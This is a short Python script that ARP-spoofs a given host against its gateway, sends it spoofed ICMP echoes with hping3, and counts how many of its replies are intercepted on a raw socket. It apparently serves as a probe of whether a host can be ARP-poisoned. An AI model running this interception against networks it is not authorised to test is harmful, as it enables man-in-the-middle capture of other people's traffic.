"""Stands between a host and its gateway (arpspoof), and counts what comes by. Arguments: host, seconds.

The host is made to speak by echo requests in the name of an address beyond the gateway: its answers pass here, if it
was taken in. Prints one JSON line: ``caught`` (packets of the host that were meant for the gateway).
"""

from __future__ import annotations

import json
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

BEYOND = "192.0.2.254"
ECHOES = 30
ENOUGH = 5
"""Packets that prove it."""
HEAD_START_S = 0.5
"""A host takes an answer it did not ask for only when it knows the gateway already: it must have spoken first."""


def way_out() -> tuple[str, str]:
    """Interface and gateway of the default route."""
    for line in Path("/proc/net/route").read_text(encoding="ascii").splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return fields[0], socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    sys.exit("no default route")


def caught(interface: str, host: str, until_s: float) -> int:
    """Packets of the host to the outside that arrive here."""
    count = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as ear:
        ear.bind((interface, 0))
        ear.settimeout(0.2)
        while count < ENOUGH and time.monotonic() < until_s:
            try:
                packet, origin = ear.recvfrom(2048)
            except OSError:
                continue
            ours = origin[2] == 0  # PACKET_HOST
            count += ours and packet[12:16] == socket.inet_aton(host) and packet[16:20] == socket.inet_aton(BEYOND)
    return count


def main() -> None:
    """Stand there."""
    host, seconds = sys.argv[1], min(10.0, float(sys.argv[2]))
    interface, gateway = way_out()
    quiet = subprocess.DEVNULL
    spoof = ["arpspoof", "-i", interface, "-t", host, gateway]
    echo = ["hping3", "-q", "-1", "-a", BEYOND, "-c", str(ECHOES), "-i", "u200000", host]
    with subprocess.Popen(echo, stdin=quiet, stdout=quiet, stderr=quiet) as caller:
        time.sleep(HEAD_START_S)
        liar = subprocess.Popen(spoof, stdin=quiet, stdout=quiet, stderr=quiet)
        count = caught(interface, host, time.monotonic() + seconds)
        liar.terminate()  # it sets right what it did
        liar.wait()
        caller.kill()
    print(json.dumps({"caught": count}))  # noqa: T201 - its output


if __name__ == "__main__":
    main()
